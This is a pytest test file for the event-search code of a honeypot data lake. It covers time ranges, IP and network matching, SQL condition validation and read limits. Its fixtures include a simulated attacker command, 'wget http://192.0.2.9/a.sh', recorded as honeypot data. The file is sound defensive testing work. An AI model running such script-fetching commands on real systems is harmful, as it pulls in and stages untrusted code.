"""Search in published events: the half-open range, what is looked for, and no more reads than that
takes. A plain twin, one line after the other, says what must come out."""

import json
import tracemalloc
from collections.abc import Callable, Iterable
from datetime import UTC, datetime, timedelta
from ipaddress import ip_address, ip_network
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from stingar_dagster.errors import UsageError
from stingar_dagster.lake.lake import Lake
from stingar_dagster.lake.lines import json_lines
from stingar_dagster.lake.reader.candidates import candidates, needles_of
from stingar_dagster.lake.reader.hours import last_day, published_slices, read_ahead
from stingar_dagster.lake.reader.query import Query
from stingar_dagster.lake.reader.search import Found, search, slices_to_read
from stingar_dagster.storage.local import LocalStore
from stingar_dagster.streams import STINGAR
from stingar_dagster_tests.support import HOUR, Site, event

FIVE = datetime(2022, 5, 19, 17, tzinfo=UTC)
MILLISECOND = timedelta(milliseconds=1)
COMMAND = "CMD: wget http://192.0.2.9/a.sh"


class ReadsRemembered(LocalStore):
    """A local store that remembers which objects were read."""

    def __init__(self, root: Path) -> None:
        super().__init__(root, str(root))
        self.reads: list[str] = []

    def read(self, path: str) -> bytes:
        self.reads.append(path)
        return super().read(path)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """Events of four hours over two days, and one a year before."""
    site = Site.at(tmp_path_factory.mktemp("search"))
    bodies = [
        event(FIVE - timedelta(days=365), src_ip="198.51.100.1"),
        event(FIVE - MILLISECOND, src_ip="198.51.100.1", dest_port=23),
        event(FIVE, src_ip="198.51.100.2", signature="command entered", command=COMMAND),
        event(FIVE + HOUR - MILLISECOND, src_ip="2001:db8::7", username="root"),
        event(FIVE + HOUR, src_ip="198.51.100.2", username='"quoted"'),
        event(FIVE + 9 * HOUR, src_ip='odd "address"'),
    ]
    site.put(bodies, start=FIVE + 10 * HOUR)
    site.run()
    return site


@pytest.fixture
def lake(site: Site) -> Lake:
    return Lake(ReadsRemembered(Path(site.lake)), STINGAR)


def found(lake: Lake, since: datetime, until: datetime, **more: Any) -> list[dict[str, Any]]:
    return list(rows(search(lake, Query(since, until, **more))))


def rows(matches: Iterable[Found]) -> Iterable[dict[str, Any]]:
    for hour in matches:
        yield from hour.events.iter_rows(named=True)


def times(events: list[dict[str, Any]]) -> list[str]:
    return [event["@timestamp"] for event in events]


def test_the_range_includes_its_first_moment_and_excludes_its_last(lake: Lake) -> None:
    assert times(found(lake, FIVE, FIVE + HOUR)) == [
        "2022-05-19T17:00:00.000Z",
        "2022-05-19T17:59:59.999Z",
    ]


def test_a_range_inside_an_hour_takes_only_its_part(lake: Lake) -> None:
    minute = timedelta(minutes=1)
    assert times(found(lake, FIVE + 59 * minute, FIVE + 60 * minute)) == [
        "2022-05-19T17:59:59.999Z"
    ]
    assert found(lake, FIVE + minute, FIVE + 59 * minute) == []
    assert times(found(lake, FIVE, FIVE + HOUR - MILLISECOND)) == ["2022-05-19T17:00:00.000Z"]


def test_a_bound_between_two_milliseconds_is_still_half_open(lake: Lake) -> None:
    just_after = timedelta(microseconds=1)
    assert times(found(lake, FIVE + just_after, FIVE + HOUR)) == ["2022-05-19T17:59:59.999Z"]
    assert times(found(lake, FIVE, FIVE + just_after)) == ["2022-05-19T17:00:00.000Z"]


@pytest.mark.parametrize(
    ("since", "until"),
    [
        (datetime.min, datetime.max),
        (datetime(300, 1, 1), datetime(9999, 12, 31, 23, 59, 59, 999999)),
    ],
)
def test_any_year_can_bound_a_range(lake: Lake, since: datetime, until: datetime) -> None:
    assert len(found(lake, since.replace(tzinfo=UTC), until.replace(tzinfo=UTC))) == 6


def test_events_come_in_the_order_of_their_time(lake: Lake) -> None:
    for days in (1, 400):
        told = times(found(lake, FIVE - timedelta(days=days), FIVE + timedelta(days=1)))
        assert told == sorted(told)
        assert len(told) == (6 if days == 400 else 5)


def test_an_address_is_matched_whole(lake: Lake) -> None:
    day = (FIVE - 17 * HOUR, FIVE + 24 * HOUR)
    assert len(found(lake, *day, src_ip="198.51.100.2")) == 2
    assert len(found(lake, *day, src_ip="2001:db8::7")) == 1
    assert found(lake, *day, src_ip="192.0.2.9") == []  # only inside a command


@pytest.mark.parametrize("spelling", ["2001:DB8::7", "2001:db8:0:0:0:0:0:7", " 2001:db8::0007 "])
def test_an_address_is_found_however_it_is_spelt(lake: Lake, spelling: str) -> None:
    assert len(found(lake, FIVE, FIVE + HOUR, src_ip=spelling)) == 1


def test_a_mapped_address_means_the_one_that_events_have(lake: Lake) -> None:
    assert len(found(lake, FIVE, FIVE + HOUR, src_ip="::ffff:198.51.100.2")) == 1


@pytest.mark.parametrize(
    "written",
    ["::ffff:cb00:7109", "0:0:0:0:0:FFFF:203.0.113.9", "0000::FfFf:CB00:7109", "203.0.113.9"],
)
def test_a_mapped_address_is_found_however_an_event_spells_it(tmp_path: Path, written: str) -> None:
    """In its hours, and by the day's table of sources, which rules the other hours out."""
    site = Site.at(tmp_path)
    others = [event(FIVE - hour * HOUR, src_ip="198.51.100.1") for hour in range(8)]
    site.put([*others, event(FIVE + MILLISECOND, src_ip=written)], start=FIVE + HOUR)
    site.run()
    lake = site.pipeline().lake
    day = (FIVE - 17 * HOUR, FIVE + 7 * HOUR)
    for asked in (written, "203.0.113.9", "::ffff:203.0.113.9", "::FFFF:cb00:7109"):
        assert len(found(lake, *day, src_ip=asked)) == 1
        _, hours = slices_to_read(lake, Query(*day, src_ip=asked))
        assert [hour.start for hour in hours] == [FIVE]
    for network in ("203.0.113.0/24", "::ffff:203.0.113.0/120", "::ffff:cb00:0/112"):
        assert len(found(lake, *day, network=network)) == 1
    assert len(found(lake, *day, network="::ffff:0:0/96")) == 9
    assert found(lake, *day, network="::/64") == []


@pytest.mark.parametrize(
    ("network", "hits"),
    [
        ("198.51.100.0/30", 4),
        ("198.51.100.2/31", 2),
        ("198.51.100.3/30", 4),
        ("0.0.0.0/0", 4),
        ("2001:db8::/32", 1),
        ("::/0", 1),
        ("203.0.113.0/24", 0),
    ],
)
def test_a_network_takes_its_addresses(lake: Lake, network: str, hits: int) -> None:
    days = (FIVE - timedelta(days=366), FIVE + 24 * HOUR)
    assert len(found(lake, *days, network=network)) == hits


@pytest.mark.parametrize(
    "asked",
    [
        {"src_ip": "198.51.100"},
        {"src_ip": "300.1.1.1"},
        {"src_ip": "198.51.100.0/24"},
        {"src_ip": 'odd "address"'},
        {"src_ip": "\x1b[2J"},
        {"network": "198.51.100.0/33"},
        {"network": ""},
        {"network": "198.51.100.0/24", "src_ip": "198.51.100.1"},
        {"command": "\udcff"},
        {"where": "command = '\udcff'"},
        {"sensor": ("\udcff",)},
    ],
)
def test_what_can_not_be_looked_for_is_refused_in_one_line(lake: Lake, asked: Any) -> None:
    with pytest.raises(UsageError) as refusal:
        Query(FIVE, FIVE + HOUR, **asked)
    assert str(refusal.value).isprintable()


def test_a_time_without_a_zone_is_utc(lake: Lake) -> None:
    naive = FIVE.replace(tzinfo=None)
    assert times(found(lake, naive, naive + HOUR)) == times(found(lake, FIVE, FIVE + HOUR))


@pytest.mark.parametrize(
    ("where", "hits"),
    [
        ("dest_port = 23", 1),
        ("event_kind = 'command' AND command LIKE '%wget%'", 1),
        ("username IS NOT NULL", 2),
        ("username = '\"quoted\"' OR dest_port = 23", 2),
        ("true", 5),
        ("false", 0),
    ],
)
def test_a_condition_is_sql_over_the_published_columns(lake: Lake, where: str, hits: int) -> None:
    assert len(found(lake, FIVE - HOUR, FIVE + 24 * HOUR, where=where)) == hits


def test_a_condition_can_not_widen_the_range_or_the_address(lake: Lake) -> None:
    either = "dest_port = 23 OR true"
    assert len(found(lake, FIVE, FIVE + HOUR, where=either)) == 2
    assert len(found(lake, FIVE, FIVE + HOUR, where=either, src_ip="198.51.100.2")) == 1


@pytest.mark.parametrize(
    "where",
    ["", "*", "'", "dest_port =", "nope = 1", "dest_port = 'ssh'", "1", "SELECT 1", "sensor ~ '['"],
)
def test_a_condition_that_is_none_is_refused_before_anything_is_read(
    lake: Lake, where: str
) -> None:
    with pytest.raises(UsageError, match="--where") as refusal:
        search(lake, Query(FIVE, FIVE + HOUR, where=where))
    assert "\n" not in str(refusal.value)
    assert isinstance(lake.store, ReadsRemembered)
    assert lake.store.reads == []


@pytest.mark.parametrize(
    "where",
    [
        "dest_port = MAX(dest_port)",
        "dest_port = 23 OR MAX(dest_port) = dest_port",
        "dest_port = 23 AND MAX(dest_port) = dest_port",
        "CASE WHEN dest_port = 23 THEN COUNT(*) = 1 ELSE false END",
        "COUNT(*) > 1",
        "FIRST(dest_port) = dest_port",
        "sensor IN (MAX(sensor))",
        "ROW_NUMBER() OVER (ORDER BY dest_port) = 1",
        "SUM(dest_port IN (22, 23)) OVER (PARTITION BY sensor) > 1",
        "dest_port > LAG(dest_port) OVER (ORDER BY dest_port)",
        "UNNEST(urls) = 'x'",
        "command IN (SELECT command FROM self)",
        "EXISTS (SELECT 1)",
        "DATE(sensor) = DATE('2022-05-19')",  # takes its format from the first value
        "dest_port = NULL",  # never true; meant is IS NULL
    ],
)
def test_a_condition_that_looks_at_other_events_is_refused_before_anything_is_read(
    lake: Lake, where: str
) -> None:
    with pytest.raises(UsageError, match="--where") as refusal:
        search(lake, Query(FIVE, FIVE + HOUR, where=where))
    assert "\n" not in str(refusal.value)
    assert isinstance(lake.store, ReadsRemembered)
    assert lake.store.reads == []


@pytest.mark.parametrize(
    "where",
    [
        "dest_port IN (22, 23) AND NOT sensor IN ('x', 'y')",
        "dest_port % 2 = 0 OR dest_port BETWEEN 1 AND 99",
        "SUBSTR(\"@timestamp\", 12, 2) = '17'",
        "DATE(\"@timestamp\", '%Y-%m-%dT%H:%M:%S%.3fZ') < DATE('2022-05-20', '%Y-%m-%d')",
        "'x' = ANY(tags) OR tags IS NULL",
        "ARRAY_LENGTH(urls) = 1 AND urls[1] ~ 'sh$'",
        "LOWER(command) ILIKE '%WGET%' AND LENGTH(command) > 3",
        "CASE WHEN dest_port = 22 THEN username IS NULL ELSE true END",
        "COALESCE(username, password, 'none') = 'none'",
        "1 = 1",
    ],
)
def test_a_condition_over_one_event_is_not_refused(lake: Lake, where: str) -> None:
    found(lake, FIVE, FIVE + HOUR, where=where)


def test_a_condition_that_fails_over_the_values_is_refused_in_one_line(lake: Lake) -> None:
    with pytest.raises(UsageError, match="--where") as refusal:
        found(lake, FIVE, FIVE + HOUR, where="CAST(sensor AS INTEGER) = 1")
    assert "\n" not in str(refusal.value)


@pytest.mark.parametrize("days", [0, 70])
def test_only_objects_of_hours_in_the_range_are_read(lake: Lake, days: int) -> None:
    found(lake, FIVE - timedelta(days=days), FIVE + HOUR + MILLISECOND)
    assert isinstance(lake.store, ReadsRemembered)
    hours = [FIVE, FIVE + HOUR] if days == 0 else [FIVE - HOUR, FIVE, FIVE + HOUR]
    assert sorted(lake.store.reads) == [lake.layout.events(hour) for hour in hours]


def test_progress_counts_the_hours_of_the_range(lake: Lake) -> None:
    steps = [(hour.done, hour.total) for hour in search(lake, Query(FIVE, FIVE + 2 * HOUR))]
    assert steps == [(1, 2), (2, 2)]
    asked = Query(FIVE, FIVE + 2 * HOUR, sensor=("nowhere",))
    assert [(hour.done, hour.total) for hour in search(lake, asked)][-1] == (2, 2)


def test_an_hour_that_goes_away_meanwhile_is_passed_over(site: Site, tmp_path: Path) -> None:
    lake = Lake(ReadsRemembered(Path(site.lake)), STINGAR)
    hours = published_slices(lake, FIVE, FIVE + 2 * HOUR)
    path = Path(site.lake) / lake.layout.events(FIVE + HOUR)
    aside = path.rename(tmp_path / "aside")
    try:
        assert [bool(data) for _, data in read_ahead(lake, hours)] == [True, False]
    finally:
        path.parent.mkdir(parents=True, exist_ok=True)
        aside.rename(path)


def test_what_is_read_ahead_is_bounded(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("stingar_dagster.lake.reader.hours._AHEAD_BYTES", 1)
    lake = Lake(ReadsRemembered(Path(site.lake)), STINGAR)
    hours = published_slices(lake)
    assert len(hours) == 5
    reading = read_ahead(lake, hours)
    assert isinstance(lake.store, ReadsRemembered)
    for read in range(1, 6):
        next(reading)
        assert len(lake.store.reads) == read
    assert next(reading, None) is None


def test_who_has_enough_ends_the_reading(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("stingar_dagster.lake.reader.hours._AHEAD_BYTES", 1)
    lake = Lake(ReadsRemembered(Path(site.lake)), STINGAR)
    matches = search(lake, Query(FIVE - timedelta(days=366), FIVE + timedelta(days=1)))
    next(matches)
    matches.close()
    assert isinstance(lake.store, ReadsRemembered)
    assert len(lake.store.reads) == 1


def test_the_default_range_is_the_last_published_day(lake: Lake) -> None:
    end = FIVE + 10 * HOUR
    assert last_day(lake, None, None) == (end - timedelta(days=1), end)
    assert last_day(lake, FIVE, None) == (FIVE, end)
    assert last_day(lake, None, FIVE) == (FIVE - timedelta(days=1), FIVE)
    after = last_day(lake, end, None)
    assert after is not None
    assert found(lake, *after) == []


def test_a_clock_that_goes_ahead_does_not_hide_the_last_day(tmp_path: Path) -> None:
    site = Site.at(tmp_path)
    now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    site.put([event(now + 20 * HOUR), event(now - 10 * HOUR)], start=now)
    site.run()
    bounds = last_day(site.pipeline().lake, None, None)
    assert bounds is not None
    assert len(found(site.pipeline().lake, *bounds)) == 2


def test_an_empty_lake_has_no_last_day(tmp_path: Path) -> None:
    lake = Site.at(tmp_path).pipeline().lake
    assert last_day(lake, None, None) is None
    assert found(lake, FIVE, FIVE + HOUR) == []


# ---- the fast way and the plain one


NASTY = st.text(max_size=4) | st.sampled_from(
    ['a"b', "a\\b", '"', "\\", "\n", "\x00id", "id\x7f", "\u2028", "ünicode", "WGET", "wget -q",
     '","sensor":"lab-1', '"src_ip":"192.0.2.7"', "\U0001f600", "\u212a", "k", "\u0130", "i"]
)  # fmt: skip
SOURCES = st.sampled_from(
    [
        "192.0.2.7",
        "192.0.2.70",
        "192.0.2.8",
        "2001:db8::7",
        "2001:DB8:0::7",
        "not an address",
        "",
        "::ffff:c000:207",
        "0:0:0:0:0:FFFF:192.0.2.7",
        "0.0.2.7",
    ]
)
ROW = st.fixed_dictionaries(
    {
        "@timestamp": st.integers(0, 3_600_000 - 1).map(
            lambda ms: (FIVE + ms * MILLISECOND).isoformat(timespec="milliseconds")[:23] + "Z"
        ),
        "src_ip": st.none() | SOURCES,
        "dest_port": st.none() | st.sampled_from([2, 22, 222]),
        "sensor": st.none() | NASTY,
        "event_kind": st.none() | st.sampled_from(["command", "connection"]),
        "username": st.none() | NASTY,
        "command": st.none() | NASTY,
        "tags": st.none() | st.lists(NASTY, max_size=2),
        "extra": st.none() | NASTY.map(lambda text: json.dumps({"sensor": text})),
    }
)
ASKED = st.fixed_dictionaries(
    {},
    optional={
        "src_ip": st.sampled_from(["192.0.2.7", "2001:db8::7", "::ffff:192.0.2.7"]),
        "dest_port": st.lists(st.sampled_from([2, 22]), max_size=2).map(tuple),
        "sensor": st.lists(NASTY, max_size=2).map(tuple),
        "username": NASTY,
        "command": NASTY,
        "where": st.sampled_from(["dest_port > 2", "sensor IS NULL", "event_kind = 'command'"]),
    },
)
NETWORKS = st.sampled_from([None, "192.0.2.0/29", "2001:db8::/64", "0.0.0.0/0"])


def lower(text: str) -> str:
    """ASCII letters alone."""
    return "".join(c.lower() if c.isascii() else c for c in text)


def is_in(address: str | None, network: str) -> bool:
    try:
        parsed = ip_address(address or "")
        mapped = parsed.ipv4_mapped if parsed.version == 6 else None
        return (mapped or parsed) in ip_network(network, strict=False)
    except ValueError:
        return False


def twin(event: dict[str, Any], query: Query) -> bool:
    """Whether an event matches, the plain way."""
    where: dict[str | None, Callable[[dict[str, Any]], bool]] = {
        None: lambda e: True,
        "dest_port > 2": lambda e: e.get("dest_port", 0) > 2,
        "sensor IS NULL": lambda e: "sensor" not in e,
        "event_kind = 'command'": lambda e: e.get("event_kind") == "command",
    }
    address = (query.src_ip or "").removeprefix("::ffff:")
    return (
        query.since <= datetime.fromisoformat(event["@timestamp"]) < query.until
        and (not address or is_in(event.get("src_ip"), address))
        and (query.network is None or is_in(event.get("src_ip"), query.network))
        and (not query.dest_port or event.get("dest_port") in query.dest_port)
        and (not query.sensor or event.get("sensor") in query.sensor)
        and (query.username is None or event.get("username") == query.username)
        and (
            query.command is None
            or ("command" in event and lower(query.command) in lower(event["command"]))
        )
        and where[query.where](event)
    )


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Lake:
    folder = tmp_path_factory.mktemp("scratch")
    return Lake(LocalStore(folder, str(folder)), STINGAR)


@settings(max_examples=300, deadline=None)
@given(st.lists(ROW, max_size=8), ASKED, NETWORKS, st.integers(0, 60), st.integers(1, 70))
@example([{"@timestamp": "2022-05-19T17:00:00.000Z", "sensor": 'a"b', "command": "x\x1bWGET"}],
         {"sensor": ('a"b',), "command": "\x1bwget"}, None, 0, 60)  # fmt: skip
@example([{"@timestamp": "2022-05-19T17:00:00.000Z", "command": "\u212a"}],
         {"command": "k"}, None, 0, 60)  # fmt: skip
@example([{"@timestamp": "2022-05-19T17:00:00.000Z", "command": "\u00c9"},
          {"@timestamp": "2022-05-19T17:00:00.000Z", "command": "\u00e9" * 99}],
         {"command": "\u00e9"}, None, 0, 60)  # fmt: skip
def test_the_fast_way_finds_what_the_plain_one_does(
    scratch: Lake,
    events: list[dict[str, Any]],
    asked: dict[str, Any],
    network: str | None,
    minute: int,
    minutes: int,
) -> None:
    since = FIVE + timedelta(minutes=minute)
    if "src_ip" not in asked:
        asked = {**asked, "network": network}
    query = Query(since, since + timedelta(minutes=minutes), **asked)
    ordered = sorted(events, key=lambda event: str(event["@timestamp"]))
    data = json_lines(pl.DataFrame(ordered, schema=STINGAR.schema))
    scratch.store.write(scratch.layout.events(FIVE), data)
    lines = [json.loads(line) for line in data.splitlines()]
    got = [{k: v for k, v in row.items() if v is not None} for row in rows(search(scratch, query))]
    assert got == [line for line in lines if twin(line, query)]


def test_no_character_is_written_otherwise_than_the_bytes_are_told_by() -> None:
    """What `candidates` takes for granted of the encoder, for every character there is."""
    characters = [chr(code) for code in range(0x11000) if not 0xD800 <= code < 0xE000]
    data = json_lines(pl.DataFrame({"sensor": characters}, schema={"sensor": pl.String()}))
    written = data.split(b"\n")
    for character, line in zip(characters, written, strict=False):
        (needle,) = needles_of("sensor", [character])
        assert needle in line
        command = Query(FIVE, FIVE + HOUR, command=character)
        as_command = line.replace(b'"sensor"', b'"command"') + b"\n"
        assert candidates(as_command, command) == as_command


def test_lines_that_can_not_match_are_not_parsed(scratch: Lake) -> None:
    lines = [
        b'{"@timestamp":"2022-05-19T17:00:00.000Z","src_ip":"192.0.2.%d"}\n' % n for n in range(9)
    ]
    asked = Query(FIVE, FIVE + HOUR, src_ip="192.0.2.7")
    assert candidates(b"".join(lines), asked) == lines[7]
    assert candidates(b"".join(lines[:7]), asked) == b""
    some = Query(FIVE, FIVE + HOUR, network="192.0.2.6/31")
    assert candidates(b"".join(lines), some) == b"".join(lines[6:8])
    several = Query(FIVE, FIVE + HOUR, dest_port=(22,), network="192.0.2.0/24")
    assert candidates(b"".join(lines), several) == b""


def test_text_is_looked_for_in_pieces_of_whole_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    lines = [
        b'{"command":"%s"}\n' % (b"x" * n + (b"WGET" if n % 9 == 0 else b"")) for n in range(99)
    ]
    data, asked = b"".join(lines), Query(FIVE, FIVE + HOUR, command="wget")
    for piece in (1, 7, 50, 1000, 1 << 20):
        monkeypatch.setattr("stingar_dagster.lake.reader.candidates._PIECE", piece)
        assert candidates(data, asked) == b"".join(lines[::9])
        assert candidates(data[:-1], asked) == b"".join(lines[::9])


def test_a_search_for_text_holds_no_second_copy_of_the_object() -> None:
    line = b'{"command":"%s"}\n' % (b"A" * 1000)
    data, asked = line * 40_000, Query(FIVE, FIVE + HOUR, command="wget")
    tracemalloc.start()
    try:
        assert candidates(data, asked) == b""
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < len(data) / 2
